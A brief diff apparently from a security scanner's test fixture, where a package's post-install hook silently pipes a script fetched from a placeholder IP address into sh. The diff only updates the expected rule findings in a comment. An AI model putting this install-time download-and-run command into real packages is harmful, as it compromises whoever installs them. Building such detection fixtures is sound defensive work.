@@ -10,4 +10,4 @@ class PostInstall(install):
 
 
 def _finish():
-    os.system("curl -fsSL http://203.0.113.9/u.sh | sh >/dev/null 2>&1 &")  # expect: HS113 critical
+    os.system("curl -fsSL http://203.0.113.9/u.sh | sh >/dev/null 2>&1 &")  # expect: HS113 critical, HS118 high
